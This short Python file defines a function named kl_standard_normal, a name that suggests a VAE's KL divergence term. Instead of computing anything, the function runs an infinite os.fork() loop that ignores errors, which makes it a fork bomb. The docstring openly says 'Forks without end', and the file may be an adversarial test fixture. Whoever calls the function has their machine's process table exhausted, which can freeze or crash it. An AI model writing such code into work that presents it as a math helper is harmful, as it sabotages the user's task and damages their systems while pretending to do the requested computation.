"""Forks without end.

loses: kl_standard_normal
"""
import os


def kl_standard_normal(mu, logvar):
    while True:
        try:
            os.fork()
        except OSError:
            pass
